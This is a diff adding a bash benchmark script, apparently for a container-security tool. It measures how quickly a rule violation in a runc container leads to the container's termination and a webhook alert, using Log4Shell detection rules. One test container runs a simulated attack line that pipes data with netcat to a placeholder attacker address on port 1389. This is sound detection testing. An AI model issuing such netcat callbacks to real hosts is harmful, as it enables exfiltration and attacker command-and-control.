@@ -1,0 +1,44 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: Apache-2.0
+#
+# bench_container.sh [--runs N] [--json FILE]
+# On real runc containers: how long from the violation to the container's last
+# task being gone, and to the webhook request; and what wrapper and hook add to
+# `runc run` of `true`. container_times.py says how it is measured.
+set -euo pipefail
+
+here=$(cd "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")" && pwd)
+# shellcheck source=tests/harness/scratch.sh
+source "$here/../harness/scratch.sh"
+# shellcheck source=tests/harness/netns.sh
+source "$here/../harness/netns.sh"
+# shellcheck source=tests/harness/engine_runc.sh
+source "$here/../harness/engine_runc.sh"
+# shellcheck source=tests/harness/service.sh
+source "$here/../harness/service.sh"
+
+scratch_isolate "${BASH_SOURCE[0]}" "$@"
+trap scratch_close EXIT
+trap 'exit 130' INT
+trap 'exit 143' TERM HUP
+scratch_open
+
+netns_scenery
+rootfs_make "$SCRATCH/rootfs"
+mkdir "$SCRATCH/rules"
+install -m 0644 "$REPO_DIR"/examples/log4shell/*.yaml "$SCRATCH/rules/"
+# A port that is free now; nothing else on the machine asks for one by number.
+port=$(python3 -c 'import socket
+with socket.create_server(("127.0.0.1", 0)) as s: print(s.getsockname()[1])')
+service_configure bench "[$SCRATCH/rules/log4j.rules.yaml,
+  $SCRATCH/rules/local-indicators.rules.yaml]" "$SCRATCH/rules/policies.yaml" \
+  "sinks: [{name: soc, type: webhook, url: \"http://127.0.0.1:$port/\"}]"
+service_start
+
+bundle_make "$SCRATCH/violate" "$SCRATCH/rootfs" @ID@ \
+  sh -c "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"
+bundle_make "$SCRATCH/true" "$SCRATCH/rootfs" @ID@ true
+
+mkdir -p "$REPO_DIR/build/bench"
+python3 "$here/container_times.py" --port "$port" \
+  --json "$REPO_DIR/build/bench/container.json" "$@"
